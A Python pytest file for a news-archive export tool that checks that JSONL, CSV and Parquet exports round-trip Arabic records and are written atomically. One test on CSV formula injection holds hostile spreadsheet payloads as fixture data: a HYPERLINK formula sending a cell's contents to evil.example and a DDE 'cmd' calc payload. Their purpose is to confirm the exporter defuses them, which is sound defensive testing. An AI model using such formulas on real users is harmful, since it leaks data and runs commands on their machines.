"""Exports: every format reads back as the same records, atomically written."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from rich.console import Console

from arshif.record import FIELDS, LIST_FIELDS, Article
from indexer.archive import Archive
from indexer.export import BATCH, LIST_SEPARATOR, export, parquet_schema
from indexer.filters import Filters
from tests.conftest import ROOT


def make(n: int, **fields: object) -> Article:
    base = dict(
        id=f"id{n}",
        url=f"https://news.example/a/{n}",
        canonical_url=f"https://news.example/a/{n}",
        outlet="alpha" if n % 2 else "beta",
        title=f"القمة رقم {n}" if n % 3 else f'خبر "عاجل", رقم {n}',
        text='السطر الأول، مع فاصلة.\nالسطر الثاني "بين علامتي تنصيص".\r\nوالمُنَظَّمة ٢٠٢٢',
        lead="مقدمة",
        authors=["سارة أحمد", "Omar K."] if n % 2 else [],
        published=f"2022-09-{n % 28 + 1:02d}T09:30:00+04:00" if n % 5 else None,
        language="ar",
        language_prob=0.75 + n / 1000,
        tags=["شنغهاي"],
        http_status=200,
        warc_offset=n * 1_000_000_007,
        topics=["sco-summit"] if n % 2 else [],
    )
    return Article(**{**base, **fields})  # type: ignore[arg-type]


@pytest.fixture
def archive(tmp_path: Path):
    with Archive(tmp_path / "db" / "archive.sqlite") as archive:
        for n in range(1, 8):
            archive.upsert(make(n))
        yield archive


def stored(archive: Archive, filters: Filters | None = None) -> list[dict]:
    return [a.to_dict() for a in archive.iter_articles(filters)]


def read_jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def read_csv(path: Path) -> tuple[list[str], list[dict]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or ()), list(reader)


def from_csv(row: dict[str, str], template: dict) -> dict:
    """Undo the CSV cell encoding with the types of `template` (the stored record)."""
    out: dict = {}
    for name, cell in row.items():
        kind = template[name]
        if name in LIST_FIELDS:
            out[name] = cell.split(LIST_SEPARATOR) if cell else []
        elif cell == "":
            out[name] = "" if kind == "" else None
        else:
            out[name] = type(kind)(cell) if kind is not None else cell
    return out


def test_jsonl_round_trips_every_record(archive: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    assert export(archive, path, "jsonl", progress=False) == 7
    rows = read_jsonl(path)
    assert rows == stored(archive)
    assert [list(row) for row in rows] == [list(FIELDS)] * 7  # FIELDS order
    raw = path.read_text(encoding="utf-8")
    assert "القمة" in raw and "\\u06" not in raw  # ensure_ascii=False
    assert raw.count("\n") == 7


def test_csv_round_trips_with_header_lists_and_newlines(archive: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert export(archive, path, "csv", progress=False) == 7
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")
    header, rows = read_csv(path)
    assert header == list(FIELDS)
    expected = stored(archive)
    assert [from_csv(row, exp) for row, exp in zip(rows, expected, strict=True)] == expected
    assert rows[0]["authors"] == "سارة أحمد; Omar K."
    assert "\r\n" in rows[0]["text"] and '"بين علامتي تنصيص"' in rows[0]["text"]


def test_csv_bom_for_spreadsheets(archive: Archive, tmp_path: Path) -> None:
    path = tmp_path / "excel.csv"
    export(archive, path, "csv", bom=True, progress=False)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and not data[3:].startswith(b"\xef\xbb\xbf")
    header, rows = read_csv(path)
    assert header[0] == "id" and len(rows) == 7


def test_parquet_round_trips_with_declared_schema(archive: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.parquet"
    assert export(archive, path, "parquet", progress=False) == 7
    table = pq.read_table(path)
    assert table.schema.equals(parquet_schema())
    assert table.schema.field("authors").type == pa.list_(pa.string())
    assert table.schema.field("warc_offset").type == pa.int64()
    assert table.schema.field("language_prob").type == pa.float64()
    assert table.to_pylist() == stored(archive)


def test_parquet_writes_row_groups_per_batch(tmp_path: Path) -> None:
    with Archive(tmp_path / "archive.sqlite") as archive:
        with archive.transaction():
            for n in range(BATCH + 5):
                archive.upsert(make(n))
        path = tmp_path / "big.parquet"
        assert export(archive, path, "parquet", progress=False) == BATCH + 5
        meta = pq.ParquetFile(path).metadata
        assert (meta.num_rows, meta.num_row_groups) == (BATCH + 5, 2)
        assert pq.read_table(path, columns=["id"]).column("id").to_pylist() == [
            a.id for a in archive.iter_articles()
        ]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_filters_and_query_select_rows(archive: Archive, tmp_path: Path, fmt: str) -> None:
    def exported(path: Path) -> list[str]:
        if fmt == "jsonl":
            return [row["id"] for row in read_jsonl(path)]
        if fmt == "csv":
            return [row["id"] for row in read_csv(path)[1]]
        return pq.read_table(path).column("id").to_pylist()

    beta = Filters(outlets=("beta",))
    path = tmp_path / f"beta.{fmt}"
    assert export(archive, path, fmt, filters=beta, progress=False) == 3  # type: ignore[arg-type]
    assert exported(path) == ["id2", "id4", "id6"]
    # «قمه» finds the titles spelled «القمة» (ids not divisible by 3), through the index.
    path = tmp_path / f"query.{fmt}"
    count = export(archive, path, fmt, filters=beta, query="قمه", progress=False)  # type: ignore[arg-type]
    assert count == 2
    assert exported(path) == ["id2", "id4"]


def test_empty_export_still_writes_a_valid_file(archive: Archive, tmp_path: Path) -> None:
    nothing = Filters(outlets=("nobody",))
    for fmt in ("jsonl", "csv", "parquet"):
        path = tmp_path / f"empty.{fmt}"
        assert export(archive, path, fmt, filters=nothing, progress=False) == 0  # type: ignore[arg-type]
    assert (tmp_path / "empty.jsonl").read_text() == ""
    assert read_csv(tmp_path / "empty.csv") == (list(FIELDS), [])
    assert pq.read_table(tmp_path / "empty.parquet").num_rows == 0


def test_failure_mid_export_leaves_no_file_and_keeps_the_old_one(
    archive: Archive, tmp_path: Path
) -> None:
    # Authors that are not strings cannot fill the declared list<string> column.
    archive.upsert(make(50, authors=[1, 2]))  # type: ignore[list-item]
    path = tmp_path / "out.parquet"
    with pytest.raises(pa.ArrowException):
        export(archive, path, "parquet", progress=False)
    assert not path.exists()
    path.write_bytes(b"previous export")
    with pytest.raises(pa.ArrowException):
        export(archive, path, "parquet", progress=False)
    assert path.read_bytes() == b"previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["db", "out.parquet"]


def test_bad_format_bom_or_path_are_clear_errors(archive: Archive, tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unknown export format 'xlsx'"):
        export(archive, tmp_path / "x.xlsx", "xlsx", progress=False)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="csv"):
        export(archive, tmp_path / "x.jsonl", "jsonl", bom=True, progress=False)
    with pytest.raises(OSError, match="cannot write to"):
        export(archive, tmp_path / "missing" / "x.csv", "csv", progress=False)
    with pytest.raises(IsADirectoryError, match="file name"):
        export(archive, tmp_path, "csv", progress=False)
    with pytest.raises(ValueError, match="no searchable words"):
        export(archive, tmp_path / "x.csv", "csv", query="؟", progress=False)
    assert archive.pending_count() == 7  # the failed query export indexed nothing
    assert sorted(p.name for p in tmp_path.iterdir()) == ["db"]


def test_exported_file_gets_normal_permissions(archive: Archive, tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        export(archive, tmp_path / "out.csv", "csv", progress=False)
    finally:
        os.umask(old)
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o644


def test_progress_bar_shows_only_when_on(archive: Archive, tmp_path: Path) -> None:
    screen = io.StringIO()
    terminal = Console(file=screen, force_terminal=True, width=100)
    export(archive, tmp_path / "a.jsonl", "jsonl", progress=False, console=terminal)
    assert screen.getvalue() == ""
    export(archive, tmp_path / "b.jsonl", "jsonl", progress=True, console=terminal)
    assert "exporting" in screen.getvalue() and "7/7" in screen.getvalue()
    piped = io.StringIO()
    export(archive, tmp_path / "c.jsonl", "jsonl", console=Console(file=piped))
    assert piped.getvalue() == ""  # not a terminal: no bar
    assert read_jsonl(tmp_path / "c.jsonl") == read_jsonl(tmp_path / "a.jsonl")


@pytest.mark.parametrize("bom", [False, True])
def test_csv_cells_that_spreadsheets_would_run_start_with_a_quote(
    tmp_path: Path, bom: bool
) -> None:
    """CSV formula injection (OWASP): a hostile page's title or text that starts with
    = + - @ tab or CR is written as text; other cells, and JSONL, keep their values."""
    hostile = {
        1: '=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")',
        2: "@SUM(1+1)*cmd|' /C calc'!A0",
        3: "+971 خبر",
        4: "-2+3",
        5: "\tمسافة",
        6: "\rعودة",
    }
    with Archive(tmp_path / "db" / "archive.sqlite") as archive:
        for n, title in hostile.items():
            archive.upsert(make(n, title=title, authors=["=cmd()", "سارة"]))
        archive.upsert(make(7, title="عنوان عادي = لا شيء"))
        export(archive, tmp_path / "out.csv", "csv", bom=bom, progress=False)
        export(archive, tmp_path / "out.jsonl", "jsonl", progress=False)
    _, rows = read_csv(tmp_path / "out.csv")
    titles = {row["id"]: row["title"] for row in rows}
    assert titles == {
        **{f"id{n}": "'" + title for n, title in hostile.items()},
        "id7": "عنوان عادي = لا شيء",
    }
    assert all(row["authors"] == "'=cmd(); سارة" for row in rows if row["id"] != "id7")
    assert rows[0]["language_prob"][0].isdigit()  # numbers are not text cells
    assert {r["title"] for r in read_jsonl(tmp_path / "out.jsonl")} >= set(hostile.values())


def test_a_killed_exports_part_file_is_removed_by_the_next(tmp_path: Path) -> None:
    """SIGKILL leaves no chance to clean up: the next export to the same file removes the
    hidden part file of the dead process, and leaves one whose writer still runs."""
    db = tmp_path / "db" / "archive.sqlite"
    with Archive(db) as archive:
        for n in range(1, 8):
            archive.upsert(make(n))
    out = tmp_path / "out.jsonl"
    slow = (
        "import sys, time\nfrom pathlib import Path\nfrom indexer.archive import Archive\n"
        "from indexer.export import export\n"
        "with Archive(Path(sys.argv[1])) as a:\n"
        "    export(a, Path(sys.argv[2]), 'jsonl', progress=False,"
        " observe=lambda article: time.sleep(60))\n"
    )
    child = subprocess.Popen([sys.executable, "-c", slow, str(db), str(out)], cwd=ROOT)
    try:
        deadline = time.monotonic() + 60
        while not list(tmp_path.glob(".out.jsonl.*.part")) and time.monotonic() < deadline:
            time.sleep(0.05)
        (part,) = tmp_path.glob(".out.jsonl.*.part")
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert part.exists() and not out.exists(), "SIGKILL left the part file behind"
    alive = tmp_path / f".out.jsonl.{os.getpid()}.0000.part"  # this process still writes it
    alive.write_bytes(b"in progress")
    with Archive(db) as archive:
        assert export(archive, out, "jsonl", progress=False) == 7
    assert not part.exists() and alive.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["db", "out.jsonl", alive.name])
